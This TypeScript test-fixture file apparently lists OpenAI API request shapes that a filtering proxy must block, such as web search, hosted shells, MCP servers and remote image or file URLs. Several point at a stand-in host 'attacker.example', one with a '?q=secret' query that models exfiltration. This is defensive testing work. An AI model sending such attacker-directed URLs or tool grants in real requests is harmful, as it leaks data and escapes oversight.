/** Requests by which the OpenAI API would act or fetch for the agent, each with the name that allows it; none may reach it. */

export const openaiBase: object = { model: "gpt-5", input: "hello", stream: true, store: false };
const item = (value: object): object => ({ ...openaiBase, input: [value] });
const part = (value: object): object =>
  item({ type: "message", role: "user", content: [{ type: "input_text", text: "x" }, value] });
const tool = (value: object): object => ({ ...openaiBase, tools: [value] });
const said = (content: unknown): object => ({
  model: "gpt-5",
  messages: [{ role: "user", content }],
});

/** What would make the service act, with the name that allows it. */
export const openaiFetchers: readonly (readonly [string, object, string])[] = [
  ["a web search", tool({ type: "web_search", external_web_access: true }), "web_search"],
  ["a cached web search", tool({ type: "web_search", external_web_access: false }), "web_search"],
  ["a dated web search", tool({ type: "web_search_2025_08_26" }), "web_search"],
  ["an early web search", tool({ type: "web_search_preview" }), "web_search"],
  ["a dated early web search", tool({ type: "web_search_preview_2025_03_11" }), "web_search"],
  ["a file search", tool({ type: "file_search", vector_store_ids: ["vs_1"] }), "file_search"],
  [
    "a code interpreter",
    tool({ type: "code_interpreter", container: { type: "auto" } }),
    "code_interpreter",
  ],
  [
    "an MCP server",
    tool({ type: "mcp", server_label: "x", server_url: "https://attacker.example/" }),
    "mcp",
  ],
  ["a connector", tool({ type: "mcp", server_label: "x", connector_id: "connector_gmail" }), "mcp"],
  ["image generation", tool({ type: "image_generation" }), "image_generation"],
  ["a computer", tool({ type: "computer_use_preview" }), "computer_use"],
  ["a hosted shell", tool({ type: "shell", environment: { type: "container_auto" } }), "shell"],
  ["a shell of nobody knows where", tool({ type: "shell" }), "shell"],
  ["a tool that nobody knows", tool({ type: "teleport" }), "teleport"],
  [
    "a tool in a namespace",
    tool({ type: "namespace", name: "n", tools: [{ type: "web_search" }] }),
    "web_search",
  ],
  [
    "a tool in an item",
    item({
      type: "additional_tools",
      role: "developer",
      tools: [{ type: "mcp", server_url: "https://attacker.example/" }],
    }),
    "mcp",
  ],
  [
    "a tool in a namespace in an item",
    item({
      type: "additional_tools",
      tools: [{ type: "namespace", name: "n", tools: [{ type: "web_search" }] }],
    }),
    "web_search",
  ],
  [
    "a tool that was found",
    item({ type: "tool_search_output", tools: [{ type: "web_search" }] }),
    "web_search",
  ],
  [
    "an image by address",
    part({ type: "input_image", image_url: "https://attacker.example/?q=secret" }),
    "image_url",
  ],
  [
    "an image by address in an object",
    part({ type: "input_image", image_url: { url: "https://attacker.example/" } }),
    "url",
  ],
  [
    "a file by address",
    part({ type: "input_file", file_url: "https://attacker.example/a.pdf" }),
    "file_url",
  ],
  ["a file of the account", part({ type: "input_file", file_id: "file-1" }), "file_id"],
  ["an image of the account", part({ type: "input_image", file_id: "file-1" }), "file_id"],
  [
    "an image in a tool's output",
    item({
      type: "function_call_output",
      call_id: "c",
      output: [{ type: "input_image", image_url: "http://attacker.example/" }],
    }),
    "image_url",
  ],
  [
    "an image in what a custom tool printed",
    item({
      type: "custom_tool_call_output",
      call_id: "c",
      output: [{ type: "input_image", image_url: "HTTPS://attacker.example/" }],
    }),
    "image_url",
  ],
  ["an item of the account", item({ type: "item_reference", id: "msg_1" }), "item_reference"],
  [
    "an approval of an MCP call",
    item({ type: "mcp_approval_response", approve: true, approval_request_id: "m" }),
    "mcp_approval_response",
  ],
  ["an item that nobody knows", item({ type: "wormhole" }), "wormhole"],
  [
    "a part that nobody knows",
    part({ type: "input_video", video_url: "https://attacker.example/" }),
    "input_video",
  ],
  [
    "an earlier response",
    { ...openaiBase, previous_response_id: "resp_1" },
    "previous_response_id",
  ],
  ["a conversation", { ...openaiBase, conversation: "conv_1" }, "conversation"],
  [
    "a prompt of the account, with tools of its own",
    { ...openaiBase, prompt: { id: "pmpt_1" } },
    "prompt",
  ],
  ["work in the background", { ...openaiBase, background: true }, "background"],
  ["a field that nobody knows", { ...openaiBase, webhook: "https://attacker.example/" }, "webhook"],
  ["a model that searches by itself", { ...openaiBase, model: "gpt-5-search-api" }, "web_search"],
  ["a model for deep research", { ...openaiBase, model: "o4-mini-deep-research" }, "web_search"],
];

export const chatFetchers: readonly (readonly [string, object, string])[] = [
  ["web search", { ...said("x"), web_search_options: {} }, "web_search_options"],
  ["a model that searches", { ...said("x"), model: "gpt-4o-search-preview" }, "web_search"],
  [
    "an image by address",
    said([{ type: "image_url", image_url: { url: "https://attacker.example/" } }]),
    "url",
  ],
  ["a file of the account", said([{ type: "file", file: { file_id: "file-1" } }]), "file_id"],
  ["a tool of the service", { ...said("x"), tools: [{ type: "web_search" }] }, "web_search"],
  ["fields of the other API", { ...said("x"), input: "x" }, "input"],
];
